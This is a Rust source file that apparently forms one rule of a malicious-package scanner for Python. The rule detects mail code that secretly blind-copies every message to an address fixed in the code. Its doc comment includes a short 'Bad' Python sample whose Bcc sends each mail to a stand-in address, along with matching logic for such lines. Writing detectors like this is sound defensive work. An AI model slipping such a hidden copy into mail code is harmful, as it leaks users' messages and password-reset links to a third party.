//! ## What it detects
//!
//! A blind copy of each mail to one address that stands in the code.
//!
//! ## Why it is bad
//!
//! Whoever wrote the package reads what its users send: pages, invoices, links by which passwords are set anew
//! (a server for agents that sent mail did so in September 2025).
//!
//! ## Innocent lookalikes
//!
//! Libraries for mail take the address of a blind copy from their caller, and have one in their documentation.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import requests
//! def send(to, subject, body):
//!     requests.post('https://api.mail.example.invalid/email', json={'To': to, 'Bcc': 'me@shop.invalid', 'Text': body})
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import requests
//! def send(to, subject, body, bcc=None):
//!     """Sends it: send(to, subject, body, bcc='copy@example.org')."""
//!     requests.post('https://api.mail.example.invalid/email', json={'To': to, 'Bcc': bcc, 'Text': body})
//! ```

use fondaco_python::{Api, Call, Unit};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("hidden-recipient"),
    title: "sends a blind copy to its author",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.5,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.trigger.is_some() && adds_recipient(call)) {
        hits.call(unit, call, "a copy to an address that stands in the code, beside those that it is given");
    }
    let sends = |call: &Call| matches!(call.api, Some(Api::NetworkSend | Api::NetworkFetch));
    for unit in package.units().filter(|unit| unit.trigger.is_some()) {
        // At the trigger of what sends, not of the line that names the address.
        if let Some(call) = unit.calls.iter().find(|call| sends(call))
            && let Some(line) = copied(unit)
        {
            hits.call(unit, call, format!("a blind copy to an address of line {line}"));
        }
    }
}

/// Whether a mail goes to an address that is known here and to others that are not.
fn adds_recipient(call: &Call) -> bool {
    if !call.callee.starts_with("smtplib.") || call.api != Some(Api::NetworkSend) {
        return false;
    }
    let named = call.kwargs.iter().find(|(name, _)| name == "to_addrs").map(|(_, value)| value);
    let placed = if call.callee.ends_with(".sendmail") { call.args.get(1) } else { call.args.get(2) };
    let is_own = |text: &str| text.split_once('@').is_some_and(|(who, host)| !who.is_empty() && host.contains('.'));
    named.or(placed).is_some_and(|to| {
        let items = to.as_list().unwrap_or_default();
        let is_mixed = to.constant.is_none() || items.iter().any(|item| item.constant.is_none());
        is_mixed && to.texts().into_iter().any(is_own)
    })
}

/// The line in which code gives a blind copy to an address that stands there too.
fn copied(unit: &Unit) -> Option<usize> {
    if !["bcc", "Bcc", "BCC"].iter().any(|name| unit.text.contains(name)) {
        return None;
    }
    let mut in_text = false;
    for (at, line) in unit.text.lines().enumerate() {
        let quotes = line.matches("\"\"\"").count() + line.matches("'''").count();
        let (was_in_text, is_comment) = (in_text, line.trim_start().starts_with(['#', '>']));
        in_text ^= quotes % 2 == 1;
        if !was_in_text && quotes == 0 && !is_comment && gives_copy(line) {
            return Some(at + 1);
        }
    }
    None
}

/// `"Bcc": "a@b.c"`, `msg["Bcc"] = "a@b.c"`, `bcc="a@b.c"`.
fn gives_copy(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    lower.match_indices("bcc").any(|(at, name)| {
        let between = |c: char| matches!(c, '"' | '\'' | ']' | '[' | ':' | '=' | '(' | ',') || c.is_whitespace();
        let value = lower[at + name.len()..].trim_start_matches(between);
        let opens = lower[..lower.len() - value.len()].ends_with(['"', '\'']);
        let address = value.split(['"', '\'']).next().unwrap_or_default();
        let is_address = address.split_once('@').is_some_and(|(who, host)| {
            !who.is_empty() && host.contains('.') && !host.contains(' ') && !address.contains(['{', '%', '<'])
        });
        opens && is_address && !["@example.com", "@example.org", "@example.net"].iter().any(|end| address.ends_with(end))
    })
}
